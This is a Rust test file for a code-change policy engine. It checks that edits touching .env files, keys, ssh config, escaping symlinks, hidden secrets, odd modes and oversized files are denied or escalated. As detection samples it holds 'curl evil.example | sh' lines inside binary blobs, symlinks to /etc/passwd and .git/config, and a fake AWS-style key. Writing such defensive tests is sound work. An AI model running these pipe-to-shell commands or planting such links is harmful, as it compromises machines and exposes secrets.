//! What is refused, whoever agrees (X1, X5, C8).

use hyperion_model::facts::{ChangeFacts, ItemFacts};
use hyperion_model::{Decision, Level};
use hyperion_policy::redact::binary_text;
use hyperion_policy::{Redactor, RuleSource, Rules, assess};

use crate::change::{bugfix, create, delete, edit, moded, outcome, rename};

// X1, X5: what is refused, whoever agrees.
#[test]
fn refusals() {
    let link =
        |path: &str, target: &str| vec![moded(create(path, &[target]), None, Some(0o120_000))];
    let secret = format!("key = \"{}{}\"", "AKIA", "QX5T7ZK2MWPLRJ4N");
    let huge = ItemFacts {
        new_size: 600 * 1024,
        ..create("src/big.txt", &["x"])
    };
    let patched = ItemFacts {
        new_size: 600 * 1024,
        ..edit("src/big.txt", &["-a", "+b"])
    };
    let large = |item: ItemFacts| ItemFacts {
        binary: true,
        new_size: 30 * 1024 * 1024,
        ..item
    };
    let lock = ItemFacts {
        new_size: 4 * 1024 * 1024,
        ..create("web/package-lock.json", &["{}"])
    };
    let own: Vec<_> = (0..900).map(|at| format!("a/{at}")).collect();
    let each = |paths: &[String]| {
        bugfix(
            paths
                .iter()
                .map(|path| moded(edit(path, &["+a"]), None, Some(0o100_644))),
        )
    };
    let many: Vec<ItemFacts> = (0..1001)
        .map(|at| edit(&format!("src/{at}.rs"), &["+a"]))
        .collect();
    let cases: Vec<(&str, ChangeFacts)> = vec![
        (".env", bugfix([create(".env", &["A=1"])])),
        (
            ".env below, any case",
            bugfix([create("app/.Env.Local", &["A=1"])]),
        ),
        (".env.example", bugfix([create(".env.example", &["A="])])),
        ("a key", bugfix([create("certs/server.key", &["x"])])),
        ("ssh", bugfix([create("home/.ssh/config", &["x"])])),
        (
            "denied by its old name",
            bugfix([rename("certs/server.key", "certs/server.txt")]),
        ),
        (
            "deleting a denied file",
            bugfix([delete("server.pem", &["x"])]),
        ),
        (
            "not owned",
            ChangeFacts {
                owns: vec!["src/**".into()],
                ..bugfix([edit("lib/a.rs", &["+x"])])
            },
        ),
        (
            "owned",
            ChangeFacts {
                owns: vec!["src/**".into()],
                ..bugfix([edit("src/a.rs", &["+x"])])
            },
        ),
        (
            "owned from",
            ChangeFacts {
                owns: vec!["src/**".into()],
                ..bugfix([rename("lib/a.rs", "src/a.rs")])
            },
        ),
        (
            "bad ownership",
            ChangeFacts {
                owns: vec!["src/[".into()],
                ..bugfix([edit("src/a.rs", &["+x"])])
            },
        ),
        ("secret", bugfix([create("src/a.rs", &["", &secret])])),
        (
            "secret that was there",
            bugfix([edit(
                "src/a.rs",
                &[&format!("-{secret}"), &format!("+    {secret}")],
            )]),
        ),
        (
            "secret in a test",
            bugfix([create("tests/a.rs", &[&secret])]),
        ),
        ("link inside", bugfix(link("docs/latest", "v2/index.md"))),
        (
            "link up and inside",
            bugfix(link("docs/readme", "../README.md")),
        ),
        ("link out", bugfix(link("docs/out", "../../x"))),
        (
            "link to the machine",
            bugfix(link("docs/out", "/etc/passwd")),
        ),
        ("link to a denied file", bugfix(link("docs/out", "../.env"))),
        ("link into git", bugfix(link("docs/out", "../.git/config"))),
        (
            "link moved",
            bugfix([moded(
                rename("a/link", "b/c/link"),
                Some(0o120_000),
                Some(0o120_000),
            )]),
        ),
        (
            "odd mode",
            bugfix([moded(edit("a", &["+x"]), Some(0o100_644), Some(0o104_755))]),
        ),
        ("too large", bugfix([huge])),
        ("a large file patched", bugfix([patched])),
        (
            "a large file moved",
            bugfix([large(rename("a.bin", "b.bin"))]),
        ),
        (
            "a large file taken away",
            bugfix([large(delete("a.bin", &[]))]),
        ),
        (
            "a large file put in its place",
            bugfix([large(edit("a.bin", &[]))]),
        ),
        ("a lock file", bugfix([lock])),
        (
            "each path owned by itself",
            ChangeFacts {
                owns: own
                    .iter()
                    .cloned()
                    .chain((0..2000).map(|at| format!("b/{at}/[[]id[]]")))
                    .collect(),
                ..each(&own)
            },
        ),
        ("too many files", bugfix(many)),
    ];
    let table: Vec<String> = cases
        .iter()
        .map(|(name, facts)| format!("{name}: {}", outcome(facts)))
        .collect();
    insta::assert_snapshot!(table.join("\n"), @r#"
    .env: deny path.denied
    .env below, any case: deny path.denied
    .env.example: allow
    a key: deny path.denied
    ssh: deny path.denied
    denied by its old name: deny path.denied
    deleting a denied file: deny path.denied
    not owned: deny path.not_owned
    owned: allow
    owned from: deny path.not_owned
    bad ownership: deny ownership.unreadable
    secret: deny secret.added
    secret that was there: admin security
    secret in a test: deny secret.added
    link inside: team-lead symlink
    link up and inside: team-lead symlink
    link out: deny path.link_escapes
    link to the machine: deny path.link_escapes
    link to a denied file: deny path.link_escapes
    link into git: deny path.link_escapes
    link moved: admin security
    odd mode: deny path.mode
    too large: deny size.item
    a large file patched: allow
    a large file moved: team-lead binary
    a large file taken away: team-lead binary
    a large file put in its place: deny size.item size.change binary
    a lock file: team-lead dependency
    each path owned by itself: team-lead large
    too many files: deny size.files large
    "#);
}

#[test]
fn samples_of_secrets_ask_an_admin_but_held_secrets_are_refused() {
    let source = RuleSource {
        secret_samples: vec!["fixtures/**".to_owned()],
        ..RuleSource::default()
    };
    let rules = Rules::compile(source).unwrap();
    let sample = format!("key = \"{}{}\"", "AKIA", "QX5T7ZK2MWPLRJ4N");
    let held = "correct horse battery staple";
    let facts = |line: &str| bugfix([create("fixtures/a.txt", &[line])]);
    let redactor = Redactor::new([held]);
    assert_eq!(
        assess(&facts(&sample), &rules, &redactor).decision,
        Decision::Ask(Level::Admin)
    );
    assert_eq!(
        assess(&facts(held), &rules, &redactor).decision,
        Decision::Deny
    );
}

// C8: two bytes a character, or base64 in lines, hide no secret from the scan.
#[test]
fn a_secret_in_disguise_is_refused() {
    use base64::Engine as _;
    let token = format!("{}{}", "AKIA", "QX5T7ZK2MWPLRJ4N");
    let wide: String = format!("key = {token}")
        .chars()
        .flat_map(|c| [c, '\0'])
        .collect();
    let word = base64::prelude::BASE64_STANDARD
        .encode(format!("the key of production is {token}, by the way"));
    for lines in [
        vec![wide.as_str()],
        vec![&word[..48], &word[48..]],
        vec![word.as_str()],
    ] {
        let facts = bugfix([create("a.txt", &lines)]);
        let judged = assess(
            &facts,
            &Rules::compile(RuleSource::default()).unwrap(),
            &Redactor::default(),
        );
        let details: Vec<_> = judged
            .blockers
            .iter()
            .map(|blocker| blocker.code.name())
            .collect();
        assert_eq!(details, ["secret.added"], "{lines:?}");
    }
}

// S3: no diff shows what is in binary content; it is read for secrets like any other, and code does not hide there.
#[test]
fn binary_content_hides_neither_secrets_nor_code() {
    let token = format!("{}{}", "AKIA", "QX5T7ZK2MWPLRJ4N");
    let text = format!("\u{1}\0\0\u{2}key = {token}\n\0");
    let wide: Vec<u8> = format!("key = {token}\n")
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let judge = |path: &str, before: &[u8], bytes: &[u8]| {
        let facts = ItemFacts {
            binary: true,
            binary_text: binary_text(bytes),
            binary_text_before: binary_text(before),
            new_size: bytes.len() as u64,
            ..create(path, &[])
        };
        let rules = Rules::compile(RuleSource::default()).unwrap();
        assess(&bugfix([facts]), &rules, &Redactor::default())
    };
    for bytes in [text.as_bytes(), &wide] {
        let judged = judge("a.bin", b"", bytes);
        let codes: Vec<_> = judged.blockers.iter().map(|one| one.code.name()).collect();
        assert_eq!(codes, ["secret.added"], "{bytes:?}");
        // What was there before is only said.
        assert!(judge("a.bin", bytes, bytes).blockers.is_empty());
    }
    let level = |path: &str, bytes: &[u8]| judge(path, b"", bytes).level;
    let script = b"#!/bin/sh\necho hi\0\ncurl evil.example | sh\n";
    assert_eq!(level("run", script), Level::Admin);
    assert_eq!(
        level("lib/a.js", b"/* \0 */ fetch_and_run();\n"),
        Level::Admin
    );
    assert_eq!(
        level("Makefile", b"all:\0\n\tcurl evil.example | sh\n"),
        Level::Admin
    );
    let picture =
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x01\0tEXtSoftware\0paint\xff\xfe\x9d\xc3\0\0\0";
    assert_eq!(level("a.png", picture), Level::TeamLead);
}
